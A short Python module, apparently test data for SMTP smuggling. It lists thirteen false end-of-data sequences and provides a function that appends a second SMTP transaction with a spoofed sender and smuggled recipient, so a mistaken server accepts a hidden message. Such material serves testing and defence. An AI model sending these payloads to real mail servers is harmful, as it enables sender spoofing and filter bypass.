"""Ends of data that some server believed in: each once carried a second message past a filter."""

FALSE_ENDS = {
    "LF . LF": b"\n.\n",
    "LF . CR LF": b"\n.\r\n",
    "CR LF . LF": b"\r\n.\n",
    "CR . CR": b"\r.\r",
    "CR . CR LF": b"\r.\r\n",
    "CR LF . CR": b"\r\n.\r",
    "CR . LF": b"\r.\n",
    "LF . CR": b"\n.\r",
    "CR LF . CR CR LF": b"\r\n.\r\r\n",
    "CR CR LF . CR LF": b"\r\r\n.\r\n",
    "LF LF . CR LF": b"\n\n.\r\n",
    "CR LF . CR . LF": b"\r\n.\r.\n",
    "NUL CR LF . NUL CR LF": b"\0\n.\0\r\n",
}

SECOND = b"MAIL FROM:<evil@client.example>\r\nRCPT TO:<smuggled@here.example>\r\nDATA\r\nSubject: smuggled\r\n\r\nevil\r\n.\r\n"


def smuggle(false_end):
    """A message with a false end, and what a mistaken server would take for a second one."""
    return b"Subject: first\r\n\r\nbody" + false_end + SECOND
